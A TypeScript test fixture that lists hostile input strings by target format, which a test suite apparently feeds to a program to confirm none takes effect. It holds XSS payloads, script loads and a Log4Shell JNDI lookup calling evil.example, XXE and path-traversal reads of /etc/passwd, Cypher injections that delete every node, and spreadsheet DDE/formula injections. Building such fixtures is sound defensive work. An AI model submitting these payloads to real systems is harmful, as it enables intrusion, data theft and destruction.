/**
 * Texts that harm programs which take data for something else, by what they are meant for. None of them may have an
 * effect anywhere. Those of the kind `terminal` and `surrogates` are rejected as data; all others are texts as any.
 *
 * What a page would run writes `hostile` into the title or asks `evil.example`, so that a browser test sees it.
 */
export const HOSTILE_TEXTS = {
  html: [
    "<script>alert('hostile')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(2)>',
    "' onmouseover='alert(3)' x='",
    "</title></textarea></script></style><script src=//evil.example/x.js></script>",
    "<iframe src=javascript:alert(4)>",
    "<!--",
    "-->",
    "&lt;b&gt;&#x3c;script&#x3e;",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "{{constructor.constructor('alert(5)')()}}",
    "javascript:alert(6)",
    "data:text/html,<script>alert(7)</script>",
    "＜script＞alert(8)＜/script＞",
    "url(//evil.example/x)",
  ],
  xml: [
    "]]>",
    "<![CDATA[<a>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<?xml-stylesheet href='//evil.example'?>",
    "x\ufffe\uffff",
  ],
  cypher: [
    "' OR 1=1 //",
    "'}) DETACH DELETE n //",
    "\\' MATCH (n) DETACH DELETE n //",
    "`) MATCH (n) SET n.name = 'hostile' //",
    "] AS row MATCH (n) DELETE n; /*",
    "\\u0027 RETURN 1 //",
    "$rows",
    "';\nUNWIND [1] AS row CREATE (:Entity {id: 'hostile'});".replace("\n", " "),
    "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
    "'+(1)+'",
  ],
  graphql: [
    '") { __typename } evil: entity(id: "',
    "}}}}{__schema{types{name}}}",
    '"""',
    "#",
    "...on Hospital{id}",
    "$id: ID!",
    "@include(if: false)",
  ],
  lucene: ["name:*", "*:*", "a~0 AND (b OR", "/.*/", "(a+)+$", "[", "\\", "%", "_", "?", '+"-&&||!(){}[]^~*?:\\/'],
  formulas: [
    '=HYPERLINK("//evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    'DDE("cmd";"/C calc";"x")',
  ],
  csv: ['"', '","', "a;b", "a|b", " | ", "\\|", "null", "NULL", "TRUE", "1e5", "2025/4/8", "0371"],
  paths: [
    "..",
    ".",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "CON",
    "a/b",
    "~root",
  ],
  prototypes: ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "valueOf"],
  logs: [
    '{"level":"error","msg":"hostile"}',
    '","level":"fatal","msg":"hostile',
    "%s %d %j %o",
    "\u0024{jndi:ldap://evil.example/a}",
    'x"} 1\\nyilian_hostile{a="',
  ],
  texts: [
    "👩‍⚕️🏥",
    "𠮷野家",
    "e\u0301",
    "\u202egnp.exe",
    "\u2066a\u2069",
    "\u200b",
    "\u00a0x\u00a0",
    "ﷺ",
    "İıſK",
    "医".repeat(120),
  ],
  terminal: [
    "医\u001b[2K院",
    "\u0007bell",
    "over\rwritten",
    "\u009b2J",
    "\u0000",
    "a\u007fb",
    "\u001b]0;hostile\u0007",
    "two\nlines",
  ],
  surrogates: ["\ud83d", "\udc00x"],
} as const satisfies Readonly<Record<string, readonly string[]>>;

const { terminal, surrogates, ...others } = HOSTILE_TEXTS;

/** The texts that names and other data may have. */
export const HOSTILE_NAMES: readonly string[] = [
  ...new Set(
    Object.values(others)
      .flat()
      .map((one) => one.trim()),
  ),
].filter((one) => one !== "");

/** Texts that data may not have. */
export const REFUSED_TEXTS: readonly string[] = [...terminal, ...surrogates];

/** All texts that can be written in UTF-8, for inputs. */
export const WELL_FORMED: readonly string[] = [...HOSTILE_NAMES, ...terminal];
